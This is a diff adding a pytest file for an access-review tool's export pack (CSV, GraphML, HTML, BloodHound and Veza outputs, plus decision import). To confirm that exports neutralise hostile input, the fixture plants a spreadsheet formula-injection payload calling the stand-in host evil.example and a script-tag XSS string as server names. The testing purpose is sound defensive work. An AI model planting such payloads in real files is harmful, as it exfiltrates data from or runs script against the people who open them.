@@ -1,0 +1,382 @@
+"""The access-review pack: every export, the findings, diff, and decisions round-trip."""
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+
+import networkx as nx
+import pytest
+from click.testing import CliRunner
+from idgraph.connector.postmark.attestation import import_members
+from idgraph.graph.cli import EXIT_CONFIG, cli
+from idgraph.graph.decisions import DecisionsInvalid, import_decisions
+from idgraph.graph.review import REVIEW_COLUMNS
+from idgraph.graph.store import Store
+
+from .conftest import fixture_secrets, sync_fixture
+
+MEMBERS = Path(__file__).resolve().parents[1] / "fixtures" / "postmark" / "members.csv"
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def pack(tmp_path, emulator, account):
+    """A synced, attested fixture account (with hostile names) and its exported pack."""
+    emulator.server(11002)["Name"] = EVIL_NAME
+    emulator.server(11003)["Name"] = "<script>alert('x')</script>"
+    db = tmp_path / "idgraph.db"
+    store = Store(db)
+    sync_fixture(store, emulator)
+    members = tmp_path / "members.csv"
+    members.write_text(
+        MEMBERS.read_text()
+        .replace("server:Acme Staging", f'"server:{EVIL_NAME.replace(chr(34), chr(34) * 2)}"')
+        .replace("server:Billing Notifications", "server:<script>alert('x')</script>")
+    )
+    import_members(
+        store,
+        members,
+        label="acme",
+        attested_by="a@acme-corp.example",
+        evidence=None,
+        valid_days=90,
+    )
+    store.close()
+    out = tmp_path / "pack"
+    result = CliRunner().invoke(cli, ["export", "--db", str(db), "--out", str(out), "--json"])
+    assert result.exit_code == 0, result.output
+    return db, out, json.loads(result.output)
+
+
+def _csv_rows(path):
+    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
+
+
+def test_review_csv_columns_and_rows(pack):
+    _db, out, summary = pack
+    rows = list(csv.DictReader((out / "review.csv").open(encoding="utf-8")))
+    assert list(rows[0]) == REVIEW_COLUMNS
+    assert len(rows) == summary["rows"]
+    types = {r["principal_type"] for r in rows}
+    assert types == {"human", "credential"}
+    humans = {r["principal"] for r in rows if r["principal_type"] == "human"}
+    assert len(humans) == 5
+    assert {r["access_kind"] for r in rows} == {"member_of", "can_access", "grants", "can_send_as"}
+    dana = [
+        r
+        for r in rows
+        if r["principal"].endswith("dana.ops@acme-corp.example") and r["access_kind"] == "member_of"
+    ]
+    assert dana[0]["access"] == "User" and dana[0]["source"] == "attested"
+    assert all(
+        r[c] == "" for r in rows for c in ("decision", "reviewer", "review_date", "justification")
+    )
+    tokens = [r for r in rows if r["principal"].startswith("postmark:server_token:")]
+    assert all(re.fullmatch(r"sha256:[0-9a-f]{16} \(….{4}\)", r["principal_name"]) for r in tokens)
+
+
+def test_formula_injection_is_neutralised_in_every_csv(pack):
+    _db, out, _summary = pack
+    files = [out / "review.csv", *sorted((out / "baton").glob("*.csv"))]
+    evil_seen = False
+    for path in files:
+        for row in _csv_rows(path):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
+                evil_seen |= cell == "'" + EVIL_NAME
+    assert evil_seen
+
+
+def test_graph_json_and_graphml_load_back_with_the_same_counts(pack):
+    db, out, _summary = pack
+    data = json.loads((out / "graph.json").read_text())
+    from_json = nx.node_link_graph(data, edges="edges")
+    from_graphml = nx.read_graphml(out / "graph.graphml")
+    from idgraph.graph.view import load_graph
+
+    store = Store(db)
+    _run, graph = load_graph(store)
+    store.close()
+    for loaded in (from_json, from_graphml):
+        assert loaded.number_of_nodes() == graph.number_of_nodes()
+        assert loaded.number_of_edges() == graph.number_of_edges()
+    assert from_graphml.nodes["postmark:server:11002"]["name"] == EVIL_NAME
+
+
+def test_html_report_is_self_contained_and_escaped(pack):
+    _db, out, _summary = pack
+    html = (out / "report.html").read_text()
+    assert "<script" not in html.lower()  # none of ours, and the server name is escaped
+    assert "&lt;script&gt;alert(" in html
+    assert not re.search(r"<link|@import|src\s*=|url\(\s*['\"]?(https?:)?//", html, re.I)
+    assert "<svg" in html and "Findings (" in html and "Access paths (" in html
+
+
+def test_baton_files_have_the_documented_headers(pack):
+    _db, out, _summary = pack
+    heads = {p.name: _csv_rows(p)[0] for p in (out / "baton").glob("*.csv")}
+    assert heads["users.csv"][:5] == ["Name", "Display Name", "Email", "Status", "Type"]
+    assert heads["resources.csv"][:4] == [
+        "Resource Type",
+        "Resource Function",
+        "Name",
+        "Display Name",
+    ]
+    assert heads["entitlements.csv"][:3] == [
+        "Resource Name",
+        "Entitlement",
+        "Entitlement Display Name",
+    ]
+    assert heads["grants.csv"] == ["Principal Receiving Grant", "Entitlement Granted to Principal"]
+    users = {r[0] for r in _csv_rows(out / "baton" / "users.csv")[1:]}
+    entitlements = {f"{r[0]}:{r[1]}" for r in _csv_rows(out / "baton" / "entitlements.csv")[1:]}
+    for principal, entitlement in _csv_rows(out / "baton" / "grants.csv")[1:]:
+        assert principal in users and entitlement in entitlements
+
+
+def test_bloodhound_opengraph_shape(pack):
+    _db, out, _summary = pack
+    data = json.loads((out / "bloodhound-opengraph.json").read_text())
+    assert data["metadata"]["source_kind"] == "IDGBase"
+    ids = {n["id"] for n in data["graph"]["nodes"]}
+    for node in data["graph"]["nodes"]:
+        assert all(kind.startswith("IDG") for kind in node["kinds"])
+        for value in node["properties"].values():
+            assert value is not None and not isinstance(value, dict)
+            if isinstance(value, list):
+                assert all(not isinstance(v, dict | list) for v in value)
+    for edge in data["graph"]["edges"]:
+        assert edge["kind"].startswith("IDG")
+        assert edge["start"]["match_by"] == "id" and edge["start"]["value"] in ids
+
+
+def test_veza_oaa_payload_shape(pack):
+    _db, out, summary = pack
+    data = json.loads((out / "veza-oaa.json").read_text())
+    app = data["applications"][0]
+    assert set(app) >= {
+        "name",
+        "application_type",
+        "local_users",
+        "local_roles",
+        "local_access_creds",
+        "resources",
+    }
+    assert len(app["local_users"]) == 5
+    assert len(app["local_access_creds"]) == 8  # the account token and 7 server tokens
+    assert {r["resource_type"] for r in app["resources"]} >= {"server"}
+    assert {r["name"] for r in app["local_roles"]} == {"Account Owner", "Account Admin", "User"}
+    kinds = {i["identity_type"] for i in data["identity_to_permissions"]}
+    assert kinds == {"local_user", "local_access_creds"}
+    names = {p["name"] for p in data["permissions"]}
+    for identity in data["identity_to_permissions"]:
+        for grant in identity.get("application_permissions", []):
+            assert grant["permission"] in names and grant["application"] == app["name"]
+
+
+def test_every_finding_fires_on_the_fixture(tmp_path, emulator):
+    store = Store(tmp_path / "db")
+    sync_fixture(store, emulator)
+    from idgraph.graph.review import build_review
+
+    missing = {f.check for f in build_review(store).findings}
+    assert "attestation-missing" in missing
+    members = tmp_path / "m.csv"
+    members.write_text(MEMBERS.read_text())
+    import_members(
+        store,
+        members,
+        label="acme",
+        attested_by="a@acme-corp.example",
+        evidence=None,
+        valid_days=90,
+    )
+    context = build_review(store, options={"max_admins": 1})
+    checks = {f.check for f in context.findings}
+    assert checks >= {
+        "domain-unverified",
+        "sender-unconfirmed",
+        "smtp-api-enabled",
+        "server-multiple-tokens",
+        "webhook-plain-http",
+        "webhook-outside-allowlist",
+        "webhook-no-auth",
+        "webhook-credentials-in-url",
+        "legacy-hook-url",
+        "too-many-admins",
+        "member-no-2fa",
+    }
+    assert "attestation-missing" not in checks
+    by_node = {(f.check, f.node) for f in context.findings}
+    assert ("webhook-plain-http", "postmark:webhook:502") in by_node
+    assert ("server-multiple-tokens", "postmark:server:11004") in by_node
+    assert ("sender-unconfirmed", "postmark:sender_signature:9004") in by_node
+    allowed = build_review(store, options={"allow_domains": ["example"]})
+    assert "webhook-outside-allowlist" not in {f.check for f in allowed.findings}
+    store.close()
+
+
+def test_stale_attestation_is_flagged_in_exports(tmp_path, emulator):
+    from datetime import UTC, datetime, timedelta
+
+    from idgraph.graph.review import build_review
+
+    store = Store(tmp_path / "db")
+    sync_fixture(store, emulator)
+    members = tmp_path / "m.csv"
+    members.write_text(MEMBERS.read_text())
+    import_members(
+        store,
+        members,
+        label="acme",
+        attested_by="a@acme-corp.example",
+        evidence=None,
+        valid_days=1,
+        now=datetime.now(UTC) - timedelta(days=2),
+    )
+    context = build_review(store)
+    assert "attestation-stale" in {f.check for f in context.findings}
+    human_rows = [r for r in context.rows if r.principal_type == "human"]
+    assert human_rows and all("attestation-stale" in r.flags for r in human_rows)
+    store.close()
+
+
+def test_export_refuses_a_run_that_is_not_complete(tmp_path, emulator):
+    db = tmp_path / "db"
+    store = Store(db)
+    sync_fixture(store, emulator)
+    emulator.inject("status", match="GET /webhooks", status=503, times=10_000)
+    partial = sync_fixture(store, emulator)
+    store.close()
+    assert partial.status == "partial"
+    result = CliRunner().invoke(
+        cli, ["export", "--db", str(db), "--out", str(tmp_path / "o"), "--run", str(partial.run_id)]
+    )
+    assert result.exit_code == EXIT_CONFIG
+    assert f"run {partial.run_id} is partial, not complete" in result.output
+    assert not (tmp_path / "o" / "review.csv").exists()
+
+
+def test_diff_and_since(tmp_path, emulator):
+    db = tmp_path / "db"
+    store = Store(db)
+    first = sync_fixture(store, emulator)
+    members = tmp_path / "m.csv"
+    members.write_text(MEMBERS.read_text())
+    attested = import_members(
+        store,
+        members,
+        label="acme",
+        attested_by="a@acme-corp.example",
+        evidence=None,
+        valid_days=90,
+    )
+    emulator.server(11001)["Name"] = "Acme Prod"
+    emulator.account["SenderSignatures"] = [
+        s for s in emulator.account["SenderSignatures"] if s["ID"] != 9002
+    ]
+    last = sync_fixture(store, emulator)
+    store.close()
+    result = CliRunner().invoke(
+        cli, ["diff", str(first.run_id), str(last.run_id), "--json", "--db", str(db)]
+    )
+    assert result.exit_code == 0, result.output
+    diff = json.loads(result.output)
+    changed = diff["nodes"]["api"]["changed"]
+    assert [c["id"] for c in changed] == ["postmark:server:11001"]
+    assert changed[0]["attributes"]["name"] == ["Acme Production", "Acme Prod"]
+    gone = {c["id"] for c in diff["nodes"]["api"]["disappeared"]}
+    assert "postmark:sender_signature:9002" in gone
+    appeared = {c["id"] for c in diff["nodes"]["attested"]["appeared"]}
+    assert "postmark:team_member:dana.ops@acme-corp.example" in appeared
+    default = json.loads(CliRunner().invoke(cli, ["diff", "--json", "--db", str(db)]).output)
+    assert (default["from_run"], default["to_run"]) == (attested["run_id"], last.run_id)
+    out = tmp_path / "pack"
+    exported = CliRunner().invoke(
+        cli, ["export", "--db", str(db), "--out", str(out), "--since", str(attested["run_id"])]
+    )
+    assert exported.exit_code == 0, exported.output
+    removed = list(csv.DictReader((out / "access-removed.csv").open()))
+    assert removed and all(r["resource"] == "postmark:sender_signature:9002" for r in removed)
+    assert all(r["change_since_last_review"].startswith("removed since run") for r in removed)
+
+
+def _fill(out: Path, decide) -> Path:
+    rows = list(csv.DictReader((out / "review.csv").open(encoding="utf-8")))
+    for row in rows:
+        decide(row)
+    filled = out / "filled.csv"
+    with filled.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, REVIEW_COLUMNS)
+        writer.writeheader()
+        writer.writerows(rows)
+    return filled
+
+
+def test_decisions_round_trip_and_remediation(pack):
+    db, out, _summary = pack
+
+    def decide(row):
+        if row["principal"].endswith("lee@agency-partner.example"):
+            row.update(decision="revoke", justification="agency contract ended")
+        elif (
+            row["principal"].startswith("postmark:server_token:") and row["access_kind"] == "grants"
+        ):
+            row.update(decision="keep", reviewer="ops@acme-corp.example", review_date="2026-11-20")
+
+    filled = _fill(out, decide)
+    result = CliRunner().invoke(
+        cli,
+        ["review", "import", str(filled), "--reviewer", "lead@acme-corp.example", "--db", str(db)],
+    )
+    assert result.exit_code == 0, result.output
+    store = Store(db)
+    stored = list(store.db["review_decisions"].rows)
+    store.close()
+    revokes = [d for d in stored if d["decision"] == "revoke"]
+    keeps = [d for d in stored if d["decision"] == "keep"]
+    assert len(revokes) == 2 and len(keeps) == 7
+    assert {d["reviewer"] for d in revokes} == {"lead@acme-corp.example"}
+    assert {d["reviewer"] for d in keeps} == {"ops@acme-corp.example"}
+    steps = (out / "remediation.md").read_text()
+    assert "Account > Users" in steps and "lee@agency-partner.example" in steps
+    assert "No API exists" in steps and "agency contract ended" in steps
+
+
+def test_invalid_decisions_store_nothing(pack):
+    db, out, _summary = pack
+
+    def decide(row):
+        if row["access_kind"] == "member_of":
+            row.update(decision="revoke")  # no justification
+        if (
+            row["principal"].endswith("sam.dev@acme-corp.example")
+            and row["access_kind"] == "can_access"
+        ):
+            row.update(decision="maybe")
+        if row["principal"].startswith("postmark:account_token:"):
+            row.update(principal="postmark:account_token:sha256:0000000000000000")
+
+    filled = _fill(out, decide)
+    store = Store(db)
+    with pytest.raises(DecisionsInvalid) as info:
+        import_decisions(store, filled, reviewer="lead@acme-corp.example")
+    problems = "\n".join(info.value.problems)
+    assert "column 'justification': a revoke needs one" in problems
+    assert "column 'decision': 'maybe' is not one of" in problems
+    assert "column 'principal': was changed after the export" in problems
+    assert re.search(r"filled\.csv: row \d+: column", problems)
+    assert store.db["review_decisions"].count == 0
+    store.close()
+    assert not (out / "remediation.md").exists()
+
+
+def test_exports_hold_no_secret(pack, account):
+    _db, out, _summary = pack
+    secrets = fixture_secrets(account)
+    for path in out.rglob("*"):
+        if path.is_file():
+            text = path.read_text(encoding="utf-8")
+            assert [s for s in secrets if s in text] == [], path
